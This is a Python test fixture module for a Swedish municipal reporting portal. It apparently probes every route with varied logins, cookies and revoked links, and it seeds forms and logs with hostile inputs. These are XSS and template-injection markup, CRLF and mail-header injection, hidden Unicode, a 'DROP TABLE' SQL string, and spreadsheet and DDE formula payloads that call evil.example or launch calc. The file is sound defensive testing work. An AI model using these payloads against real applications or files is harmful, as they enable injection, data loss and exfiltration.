"""A portal under siege: whoever may try, every route that there is, and what the store holds before and after."""

import re
from collections.abc import Sequence
from datetime import timedelta
from functools import cache, cached_property
from typing import TypeVar

import pytest
from sqlalchemy import func, select

from actions.act import Act
from actions.inbox.registering import bring, open_brought
from actions.scene import Scene
from notifications.mailbox.enclosed import File
from store.access import feed_links, links
from store.log.writing import log
from store.tables import LogRow
from tests.rig.handins import NOW, PDF
from tests.rig.hedemora import town
from tests.rig.pages.chamber import Chamber
from tests.rig.pages.client import Client
from tests.rig.pages.hall import COOKIE, SECRET, SECRETARY, Hall
from tests.rig.pages.logging_in import log_in, press

CHIEF = "forvaltningschef.bildning@example.se"
OTHER = "forvaltningschef.omsorg@example.se"
UNDERLAG = "/mina/delarsrapport/2027-08/bildningsnamnden/underlag"

#: what fills the routes' paths: real things, so that a try which got through would do something
REAL = {
    "step": "delarsrapport", "period": "2027-08", "unit": "bildningsnamnden", "krav": "underlag", "part_id": "ekonomi",
    "body": "ksau", "day": "2027-10-05", "role": "forvaltningschef", "year": "2027", "kind": "xlsx",
    "handling": "godkann", "rule": "saknar-rad", "vad": "anstand",
}  # fmt: skip

#: by day each route is tried with some of what is tried, so that each is tried on many; by night with every
EACH_WITH_SOME = pytest.mark.parametrize(
    "every", [False, pytest.param(True, marks=pytest.mark.nightly)], ids=["some", "every"]
)
_T = TypeVar("_T")


def in_turn(tries: Sequence[_T], number: int) -> list[_T]:
    """Return the two of some tries whose turn it is with the route of a number."""
    return [tries[(2 * number + each) % len(tries)] for each in range(2)]


class Siege(Chamber):
    """A filled portal, and those who try it: a hand-in, a matter with its paper, a mail that waits, all of id 1."""

    def __init__(self, **hall):
        super().__init__(Hall(town()))
        for name, value in hall.items():
            setattr(self.hall, name, value)
        self.hand_in()
        self.bring_up()
        with self.hall.town.store.begin() as session:
            scene = Scene(session, self.hall.office(), self.hall.now)
            brought = [File(name="underlag.pdf", media_type="application/pdf", content=PDF)]
            bring(Act(scene, "Ekonom E"), open_brought(brought, self.hall.now))
        self.app = self.hall.app()

    def anybody(self):
        return Client(self.app, base_url=self.hall.public_url, follow_redirects=False)

    def logged_in(self, **who):
        return log_in(self.anybody(), self.hall.town.store, SECRET, self.hall.now, **who)

    def insider(self):
        """The ekonomikontor's browser, in which the förvaltningschef's link is opened too."""
        browser = self.logged_in(name="Ekonom E")
        assert press(browser, f"/l/{self.token(CHIEF)}").status_code == 303
        return browser

    def secretary(self):
        return self.logged_in(address=SECRETARY, name="Nämndsekreterare")

    def token(self, person=OTHER):
        with self.hall.town.store.begin() as session:
            return links.sign(SECRET, links.issue(session, person, ["forvaltningschef"], NOW))

    def with_link(self, person=OTHER):
        browser = self.anybody()
        assert press(browser, f"/l/{self.token(person)}").status_code == 303
        return browser

    def with_cookie(self, **cookies):
        browser = self.anybody()
        for name, value in cookies.items():
            browser.cookies.set(name.replace("_", "-"), value)
        return browser

    def revoked(self):
        browser = self.with_link(CHIEF)
        with self.hall.town.store.begin() as session:
            links.revoke_all(session, CHIEF, self.hall.now, "test")
        return browser

    def logged_out(self):
        browser = self.logged_in()
        copy = self.with_cookie(**{COOKIE: browser.cookies[COOKIE]})
        assert self.post(browser, "/logga-ut", shown="/lage").status_code == 200
        return copy

    def feed(self):
        return feed_links.sign(SECRET, "enhet/bildningsnamnden", 1)

    def ask(self, browser, method, path, **more):
        """One try. Time passes, so that it is judged by itself and not as one of a flood."""
        self.hall.now += timedelta(seconds=2)
        return browser.request(method, path, **more)

    def post(self, browser, path, *, shown, data=None, **more):
        """Send a form with the token that ``shown`` carries in this browser."""
        page = self.ask(browser, "GET", shown).text
        token = re.search(r'name="csrf" value="([^"]*)"', page)[1]
        return self.ask(browser, "POST", path, data={**(data or {}), "csrf": token}, **more)

    @cached_property
    def routes(self):
        """Every method and path of the portal as it is declared, with the address that fills it."""
        return [
            (method, route, re.sub(r"{(\w+)}", lambda part: REAL.get(part[1], "1"), route))
            for route, methods in sorted(self.app.openapi()["paths"].items())
            for method in sorted(methods)
        ]

    def tries(self):
        """How many denied tries are in the log."""
        with self.hall.town.store.read() as session:
            return session.scalar(select(func.count()).where(LogRow.what == "portal.denied"))

    def kept(self):
        """Everything in the store but the log, what marks that a session lives, and how much was sent up: the same before and after, or not."""
        raw = self.hall.town.store.engine.raw_connection().driver_connection
        beside = {"log", "session", "link", "login_link", "uploaded", "ended_visit"}
        tables = {
            "sqlite_master",
            *(name for (name,) in raw.execute("SELECT name FROM sqlite_master WHERE type = 'table'")),
        }
        assert beside < tables
        return {name: raw.execute(f'SELECT * FROM "{name}"').fetchall() for name in tables - beside}


@cache
def swedish(text):
    """Whether a page is one of ours that says, in Swedish, what to do and whom to ask."""
    ours = '<html lang="sv">' in text and "ekonomikontoret@example.se" in text
    return ours and not re.search(r"Not Found|Method Not Allowed|Internal Server|Traceback|detail\"", text)


BIN = "/lage/delarsrapport/2027-08/bildningsnamnden/underlag"
OMN = BIN.replace("bildningsnamnden", "omsorgsnamnden")
MARKUP = "<script>alert(1)</script>\"'></textarea><img src=x onerror=alert(1)>{{7*7}}${7*7}"
BREAKS = "\r\nBcc: ond@example.org\r\nX-Ond: ja\r\n\r\n.\r\nMAIL FROM:<ond@example.org>\x85\u2028Set-Cookie: a=b"
HIDES = "\u202eexe.fdp\u2066\u200b\x07\x1b[31m"
SQL = "'; DROP TABLE log; -- %_\\"
#: what the forms below are filled with; it begins as a formula, so that every file that shows it is tried too
EVIL = f"=HYPERLINK(\"http://evil.example\";1)+cmd|' /C calc'!A0 {MARKUP}{BREAKS}{HIDES}{SQL}"
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '=IMPORTXML("http://evil.example")', '=HYPERLINK("http://evil.example?"&A1;"Klicka")', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\u3000=1",
    '";=1', "';=1", "a\r\n=1",
)  # fmt: skip


def poisoned(**hall):
    """A siege in which every word that a person may write has been written as badly as can be, through the pages."""
    siege = Siege(**hall)
    office = siege.logged_in(name=f"Ekonom {EVIL}")
    ask = {"skal": EVIL, "varfor": EVIL, "anteckning": EVIL}
    done = [
        siege.post(office, f"{OMN}/anstand", shown="/bokforing", data={"till": "2027-09-23", **ask}),
        siege.post(office, f"{OMN}/vila", shown="/bokforing", data={"till": "2027-09-20", **ask}),
        siege.post(office, f"{OMN}/avsla", shown="/bokforing", data=ask),
        siege.post(office, f"{BIN}/godkann", shown="/bokforing", data=ask),
        siege.post(office, f"{BIN}/aterremiss", shown="/bokforing", data={"till": "2027-09-24", "del": "ekonomi", **ask}),
        siege.post(office, "/kontroller/saknar-rad/ur-kraft", shown="/bokforing", data=ask),
        siege.post(office, "/registrera", shown="/bokforing", files={"filer": (f"{EVIL}.pdf", PDF + b"%2")}),
        siege.post(office, "/mote/andra", shown="/bokforing", data={"organ": "ksau", "ny_dag": "2027-09-28", "gor": "flytta", **ask}),
        siege.post(office, "/personer/omsorgsnamnden/forvaltningschef", shown="/bokforing",
                   data={"vad": "byt", "namn": f"Bo {MARKUP}{SQL}", "e-post": "bo@example.se", "fran": "2027-09-13", **ask}),
        siege.post(office, "/personer/bildningsnamnden/forvaltningschef", shown="/bokforing",
                   data={"vad": "ersattare", "namn": f"Ek {MARKUP}", "e-post": "ek@example.se", "fran": "2027-09-13", "till": "2027-09-30", **ask}),
    ]  # fmt: skip
    chief = siege.with_link(CHIEF)
    field = "delarsrapport.underlag"
    done += [
        siege.post(chief, UNDERLAG, shown="/mina", files={f"{field}.mal-och-resultat.fil": (f"{EVIL}.pdf", PDF)}),
        siege.post(chief, UNDERLAG, shown="/mina", data={f"{field}.riskanalys-och-intern-kontroll.ej": f"Vi har inga risker i år. {EVIL}"}),
        siege.post(chief, UNDERLAG.replace("/underlag", "/protokoll"), shown="/mina", files={"delarsrapport.protokoll.protokollsutdrag.fil": ("p.pdf", PDF)},
                   data={f"delarsrapport.protokoll.protokollsutdrag.{name}": EVIL for name in ("paragraf", "datum", "justerad")}),
    ]  # fmt: skip
    assert [(answer.status_code, answer.text) for answer in done if answer.status_code != 303] == []
    with siege.hall.town.store.begin() as session:
        for text in (*FORMULAS, EVIL, MARKUP, BREAKS):
            log(session, siege.hall.now, text, "portal.denied", text, {"what": text, text: [text]})
    return siege
